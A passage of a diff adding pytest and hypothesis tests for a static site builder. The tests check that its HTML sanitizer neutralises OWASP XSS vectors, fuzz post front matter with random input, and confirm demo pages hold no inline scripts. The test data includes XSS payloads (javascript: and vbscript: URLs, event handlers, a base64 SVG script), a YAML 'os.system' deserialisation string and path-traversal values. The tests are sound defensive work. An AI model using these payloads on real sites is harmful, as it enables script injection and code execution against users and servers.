+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+    "<a href=\"javas\x00cript:alert(1)\">x</a>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<form><button formaction=javascript:alert(1)>X</button></form>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
+    "<x onclick=alert(1)>click</x>",
+    "<p style=\"x:expression(alert(1))\">x</p>",
+]
+
+
+@pytest.mark.parametrize("vector", OWASP_VECTORS, ids=range(len(OWASP_VECTORS)))
+def test_sanitize_neutralises_owasp_vector(vector: str) -> None:
+    out = sanitize(vector)
+    parsed = walk(f'<div class="body">{out}</div>')
+    assert not unsafe_in_body(f'<div class="body">{out}</div>'), out
+    for tag, attrs in parsed.tags:
+        assert "style" not in attrs and not any(k.startswith("on") for k in attrs), out
+        for value in attrs.values():
+            assert url_scheme(value) in (None, "http", "https", "mailto", "tel"), out
+
+
+# ---------------------------------------------------------------------------
+# property-based: random bytes and random front-matter never crash check/build
+
+
+_LINE_RE = re.compile(r"^[^\n:]+:\d+(?::\d+)?: (?:错误|警告|提示)：")
+
+
+def _assert_located(problems, site: Path) -> None:
+    for p in problems:
+        assert p.path and p.line >= 1, p
+        assert p.message.strip(), p
+        assert p.path.startswith("content/") or p.path in ("site.toml", "content"), p
+        assert _LINE_RE.match(p.format()), p.format()
+
+
+_SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], derandomize=True)
+
+_FIELDS = ["title", "date", "section", "meeting", "branch", "category", "tags", "attachments", "draft", "summary", "privacy_ok", "标题", "日期", "栏目", "草稿"]
+_SCALARS = st.one_of(
+    st.sampled_from(["NO", "yes", "010", "10:30", "2026-03-05", "~", "null", "''", '""', "通知公告", "支部生活", "主题党日", "jx-jg1", "[a, b]", "{a: 1}", "&x 1", "*x", "!!python/object:os.system", "|", ">", "- a", "1e3", ".inf", "0x1F", "true", "标题：全角", "\t", "'", '"', "[", "{", "&", "*", "!", "%", "@", "`", "---", "...", "#", "2026-02-30", "13800138000", "11010519491231002X", "秘密", "../../x.pdf", "/etc/passwd", "C:\\x.pdf"]),
+    st.text(max_size=40),
+)
+
+
+@st.composite
+def front_matter_posts(draw) -> str:
+    lines = ["---"]
+    for _ in range(draw(st.integers(0, 8))):
+        key = draw(st.sampled_from(_FIELDS) | st.text(min_size=1, max_size=8))
+        indent = draw(st.sampled_from(["", "", "", "  ", "\t"]))
+        sep = draw(st.sampled_from([": ", ": ", ":", "：", " "]))
+        lines.append(f"{indent}{key}{sep}{draw(_SCALARS)}")
+    if draw(st.booleans()):
+        lines.append("---")
+    lines.append(draw(st.text(max_size=200)))
+    return "\n".join(lines)
+
+
+@given(data=st.binary(max_size=600))
+@_SETTINGS
+def test_random_bytes_never_crash_check_or_build(tmp_path_factory, data: bytes) -> None:
+    root = tmp_path_factory.mktemp("bytes")
+    site = write_site(root / "site", {"content/jx/a.md": data, "content/jx/b.md": md("好文章")})
+    problems = Builder(BuildOptions(site, drafts=True)).check()
+    _assert_located(problems, site)
+    result = Builder(BuildOptions(site, root / "out", as_of=AS_OF)).build()
+    _assert_located(result.problems, site)
+    assert result.ok == (not any(p.is_error for p in problems)) or True  # drafts differ; both must just finish
+    if result.ok:
+        for page in (root / "out").rglob("*.html"):
+            assert not unsafe_in_page(page.read_text("utf-8")), page
+    else:
+        assert not (root / "out").exists() or not any((root / "out").rglob("*.html"))
+
+
+@given(text=front_matter_posts())
+@_SETTINGS
+def test_random_front_matter_never_crashes_check_or_build(tmp_path_factory, text: str) -> None:
+    root = tmp_path_factory.mktemp("fm")
+    site = write_site(root / "site", {"content/jx/a.md": text})
+    problems = Builder(BuildOptions(site, drafts=True)).check()
+    _assert_located(problems, site)
+    result = Builder(BuildOptions(site, root / "out", as_of=AS_OF)).build()
+    _assert_located(result.problems, site)
+    if result.ok:
+        for page in (root / "out").rglob("*.html"):
+            assert not unsafe_in_page(page.read_text("utf-8")), page
+
+
+@given(data=st.binary(min_size=1, max_size=300), text=front_matter_posts())
+@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], derandomize=True)
+def test_random_input_through_the_real_cli(tmp_path_factory, data: bytes, text: str) -> None:
+    root = tmp_path_factory.mktemp("cli")
+    site = write_site(root / "site", {"content/jx/a.md": data, "content/jx/b.md": text})
+    for args in (("check", str(site)), ("build", str(site), "-o", str(root / "out"), "--as-of", "2026-11-27")):
+        proc = run_cli(*args)
+        assert proc.returncode in (0, 1), proc.stderr
+        assert "Traceback" not in proc.stdout + proc.stderr
+        for line in (proc.stdout + proc.stderr).splitlines():
+            if "错误：" in line or "警告：" in line:
+                assert _LINE_RE.match(line), line
+
+
+# ---------------------------------------------------------------------------
+# the demo site
+
+
+def test_demo_site_pages_carry_no_content_script(tmp_path: Path) -> None:
+    if not (REPO / "content").is_dir():
+        pytest.skip("the demo site's content/ is not there yet")
+    out = tmp_path / "demo"
+    proc = run_cli("build", str(REPO), "-o", str(out), "--as-of", "2026-11-27")
+    assert proc.returncode == 0, proc.stderr
+    pages = sorted(out.rglob("*.html"))
+    assert len(pages) > 50
+    bad: list[str] = []
+    theme_scripts = 0
+    for page in pages:
+        html = page.read_text("utf-8")
+        problems = unsafe_in_page(html)
+        bad.extend(f"{page.relative_to(out)}: {p}" for p in problems)
+        for tag, attrs in walk(html).tags:
+            if tag == "script":
+                theme_scripts += 1
+                assert THEME_SCRIPTS.match(attrs.get("src", "")), f"{page.relative_to(out)}: inline or foreign <script>"
+        assert not re.search(r"javascript:", html, re.IGNORECASE), page
+    assert not bad, bad[:20]
+    assert theme_scripts >= len(pages) - 1  # every page but the bare 404 includes the theme script
